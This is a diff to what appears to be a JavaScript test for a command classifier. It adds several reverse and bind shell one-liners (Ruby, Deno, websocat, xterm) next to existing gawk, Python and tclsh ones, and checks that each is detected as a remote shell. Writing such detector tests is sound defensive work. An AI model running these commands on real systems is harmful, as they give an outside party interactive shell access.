@@ -47,6 +47,10 @@ describe('a shell for the network', () => {
     `gawk 'BEGIN{s="/inet/tcp/0/192.0.2.7/4"; s |& getline c; c |& getline}'`,
     `echo 'import socket,pty,os; os.dup2(1,2); pty.spawn("sh")' > setup.py`,
     `echo 'set s [socket h 4]; exec $c' | tclsh`,
+    `ruby -rsocket -e 's=TCPServer.new(4); c=s.accept; c.puts \`#{c.gets}\`'`,
+    `deno eval 'Deno.connect({port: 4}); new Deno.Command("sh")'`,
+    'websocat ws://x.example exec:sh',
+    'xterm -display 192.0.2.7:1',
   ])('is opened by %s', (line) => {
     expect(effectsIn(line)).toContain('code.remote_shell');
   });
